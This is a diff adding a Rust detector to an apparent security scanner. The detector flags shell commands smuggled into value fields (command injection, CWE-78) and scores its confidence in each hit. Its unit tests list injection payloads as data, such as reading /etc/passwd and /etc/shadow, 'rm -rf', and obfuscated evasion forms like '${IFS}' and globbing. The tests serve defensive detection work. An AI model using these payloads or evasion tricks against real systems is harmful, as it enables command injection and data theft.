@@ -1,0 +1,144 @@
+//! Shell commands where a value was expected.
+//!
+//! **What it finds.** An operator of a shell (`;`, `|`, `&`, the end of a line, `` ` ``, `$(`) followed by a whole
+//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote.
+//!
+//! **Why it matters.** A tool that puts the value into a command line runs the attacker's command (CWE-78).
+//!
+//! **Example.** `photo.jpg; cat /etc/passwd`
+//!
+//! Command lines as such (`npm install && npm test`), scripts, words in backticks and rows of tables are left alone. To
+//! allow commands in a field, such as the argument of a terminal tool, allow this class for that field.
+
+use super::{
+    lead::{Lead, lead},
+    markup::{follows_name, is_markup, sign_is_line_end},
+    needles::NEEDLES,
+    operator::{is_end, is_plain_word, may_begin_command, operator_at},
+};
+use crate::{
+    detector::{Detector, Finds, Hit, Outcome},
+    execution::{
+        commands::{self, Strength},
+        setting::{VALUE_BYTES_MAX, in_backticks, in_sentence, is_value},
+        words::{self, Command},
+    },
+    text::View,
+};
+use palisade_model::Severity;
+use std::ops::Range;
+
+pub(crate) static SHELL: Detector = Detector {
+    class: "guard.injection.shell",
+    version: "1",
+    severity: Severity::High,
+    title: "Shell command in a value",
+    remediation: "Call the program without a shell and pass the value as an argument of its own.",
+    references: &["CWE-78", "CWE-77", "OWASP-A03"],
+    finds: Finds::Places { needles: &NEEDLES, confirm },
+};
+
+fn confirm(view: &View<'_>, at: usize) -> Outcome {
+    let bytes = view.bytes();
+    if bytes.len() > VALUE_BYTES_MAX {
+        return Outcome::Clean { until: bytes.len() };
+    }
+    let operator = operator_at(view, at);
+    // Nearly all that follows such a sign in other text is declined by its first bytes.
+    if !may_begin_command(bytes.get(operator.end)) || is_plain_word(&bytes[operator.end..]) {
+        return Outcome::Clean { until: at + 1 };
+    }
+    let line_end = bytes[at] == b'\n';
+    if (line_end && bytes[at..operator.end].iter().any(|byte| b";|&`$(".contains(byte)))
+        || (bytes[at] == b'\\' && operator.is_empty())
+    {
+        // The operator that follows has a needle of its own.
+        return Outcome::Clean { until: at + 1 };
+    }
+    if !is_value(view) {
+        return Outcome::Clean { until: bytes.len() };
+    }
+    let command = words::read(view.bytes(), operator.end);
+    let strength = commands::judge(&command);
+    if strength == Strength::None {
+        return Outcome::Clean { until: operator.end };
+    }
+    let confidence = confidence(view, &operator, &command, strength);
+    if confidence < 0.4 {
+        return Outcome::Clean { until: operator.end };
+    }
+    let end = view.slice(0..view.bytes().len()).floor_char_boundary(command.end);
+    let why = match strength {
+        Strength::Certain => "A shell command that reaches for something sensitive, or hides itself, follows a value.",
+        _ => "An operator of a shell and a whole command follow a value.",
+    };
+    let hit = Hit::text(operator.start..end, None, confidence, why).until(end.max(at + 1));
+    Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
+}
+
+/// How sure it is that `command` was smuggled in.
+fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> f64 {
+    let substitution = view.slice(operator.clone()).contains(['`', '$']);
+    if is_markup(view, operator, command) {
+        return 0.0;
+    }
+    if sign_is_line_end(view, operator) && !follows_name(view, operator, command, strength) {
+        return 0.0;
+    }
+    let lead = lead(view, operator.start, substitution);
+    let ends = is_end(view, command.end);
+    match (lead, strength) {
+        (Lead::Value, Strength::Certain) => 0.95,
+        (Lead::Value, Strength::Strong) if ends => 0.88,
+        (Lead::Value, Strength::Strong) => 0.6,
+        (Lead::Value, Strength::Weak) if ends && command.words.len() == 1 => 0.45,
+        (Lead::Words, Strength::Certain) => 0.85,
+        (Lead::Words, Strength::Strong) if ends && !substitution => {
+            let deliberate = command.words.first().is_some_and(|name| commands::is_deliberate(name));
+            let span = operator.start..command.end;
+            if deliberate && !in_sentence(view, &span) && !in_backticks(view, &span) { 0.82 } else { 0.5 }
+        }
+        (Lead::Script, Strength::Certain) if command.disguised => 0.6,
+        _ => 0.0,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::testing::check;
+
+    #[test]
+    fn shell() {
+        check(
+            "guard.injection.shell",
+            &[
+                ("photo.jpg; cat /etc/passwd", 9..26),
+                ("127.0.0.1 && whoami", 10..19),
+                ("x|id", 1..4),
+                ("/ping?host=1.1.1.1;sleep 5", 18..26),
+                ("name'; rm -rf /tmp/x #", 5..21),
+                ("`id`", 0..3),
+                ("$(curl http://example.org/x)", 0..27),
+                ("a\ncat /etc/shadow", 1..17),
+                (";c'a't${IFS}/etc/hosts", 0..22),
+                ("x;/???/c?t /tmp/x", 1..17),
+                ("file & dir C:\\", 5..14),
+                ("|w^h^o^a^m^i", 0..12),
+                ("x;{cat,/etc/passwd}", 1..18),
+            ],
+            &[
+                "npm install && npm test",
+                "Run `ls` or `cat` to see the files; cat is shorter.",
+                "| id | name | type |",
+                "cat access.log | sort | uniq -c | head",
+                "if (a & id) { b; }",
+                "Terms; sort of; more or less",
+                "#!/bin/sh\ncat /etc/os-release | grep ID\nls -l /tmp\n",
+                "    && apt-get install -y curl \\\n    && rm -rf /var/lib/apt/lists/*",
+                "https://example.org/?a=1&id=3&sort=name&type=x",
+                "OS=$(uname -s)",
+                "string | null",
+            ],
+        );
+    }
+}
